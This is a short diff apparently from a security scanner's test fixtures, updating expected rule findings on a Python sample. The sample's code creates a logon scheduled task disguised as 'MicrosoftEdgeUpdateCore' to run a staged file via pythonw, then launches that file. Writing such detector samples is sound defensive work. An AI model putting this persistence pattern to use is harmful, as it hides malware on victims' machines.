@@ -19,7 +19,7 @@ def fetch():
 
 
 def persist():
-    subprocess.call(  # expect: HS110 medium
+    subprocess.call(  # expect: HS107 critical, HS110 medium
         ["schtasks", "/create", "/tn", "MicrosoftEdgeUpdateCore", "/sc", "onlogon",  # expect: HS239 high
          "/tr", f'pythonw "{STAGE}"', "/f"],
     )
@@ -28,4 +28,4 @@ def persist():
 def main():
     fetch()
     persist()
-    subprocess.Popen(["pythonw", STAGE])  # expect: HS110 medium
+    subprocess.Popen(["pythonw", STAGE])  # expect: HS107 critical, HS110 medium
